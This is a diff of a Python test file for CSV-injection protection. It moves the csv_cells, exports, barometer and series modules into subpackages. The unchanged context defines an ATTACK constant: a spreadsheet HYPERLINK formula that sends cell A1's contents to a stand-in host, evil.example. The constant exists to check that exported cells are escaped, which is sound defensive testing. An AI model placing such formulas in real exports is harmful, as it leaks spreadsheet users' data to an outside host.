@@ -1,4 +1,4 @@
-"""CSV injection: every CSV the app writes goes through app/csv_cells.py, so a name or an
+"""CSV injection: every CSV the app writes goes through app/results/csv_cells.py, so a name or an
 answer that a spreadsheet would run as a formula arrives as text (issue 21, item 6)."""
 
 import csv
@@ -7,9 +7,10 @@ from datetime import UTC, datetime
 
 import pytest
 
-from app import barometer, csv_cells, exports, series
 from app.extensions import db
 from app.models.library import BarometerPrompt
+from app.network import barometer, series
+from app.results import csv_cells, exports
 
 ATTACK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the full report")'
 
